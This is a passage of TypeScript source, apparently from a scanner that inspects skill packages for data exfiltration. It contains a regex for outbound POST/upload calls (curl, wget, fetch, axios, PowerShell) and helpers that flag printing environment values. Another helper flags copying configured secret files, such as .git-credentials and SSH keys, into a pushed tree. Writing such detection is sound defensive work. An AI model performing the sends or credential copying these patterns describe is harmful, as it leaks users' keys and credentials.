  /\b(?:requests|httpx|session|client|s)\.(?:post|put|patch)\s*\(|\burlopen\s*\([^)\n]*\bdata\s*=|\burllib\.request\.Request\s*\([^)\n]*\bdata\s*=|\bfetch\s*\([^)]*\bmethod\s*:\s*["'](?:POST|PUT|PATCH)|\baxios\.(?:post|put|patch)\s*\(|\bcurl\b[^\n]*\s(?:-d|--data(?:-\w+)?|-F|--form|-T|--upload-file|-X\s*POST)\b|\bwget\b[^\n]*--post-(?:data|file)|\bInvoke-(?:RestMethod|WebRequest)\b[^\n]*-Method\s+["']?Post/gi;

/** One-shot test of the same shapes. */
const SEND_ONE = new RegExp(SEND.source, 'i');

/** The body of an environment loop prints or writes its values. */
function printsLoop(text: string, from: number, seg: Segment): boolean {
  const body = text.slice(from, nthLineEnd(text, from, 3, seg.end));
  return /\b(?:print|console\.log|sys\.stdout\.write|\.write|logger\.\w+|echo)\s*\(/.test(body);
}

/**
 * Whether `code` copies files into the tree it pushes (`cp`, `rsync`, `Copy-Item`) and sources a data file of the skill
 * that lists key or credential files (`EXTRA_FILES=("$HOME/.git-credentials" "$HOME/.ssh/id_ed25519")` in `backup.conf`).
 */
function copiesConfiguredSecrets(files: readonly SentinelFile[], code: string): boolean {
  if (!/\b(?:cp|rsync|install|Copy-Item|ditto)\b/.test(code)) return false;
  return files.some((f) => {
    if (f.role !== 'data' || f.info.text.length > 100_000) return false;
    const name = f.file.path.replace(/^.*[\\/]/, '');
    if (name.length < 4 || !code.includes(name)) return false;
    return findSources(f.info.text).some((src) => src.kind === 'ssh' || src.kind === 'store');
  });
}
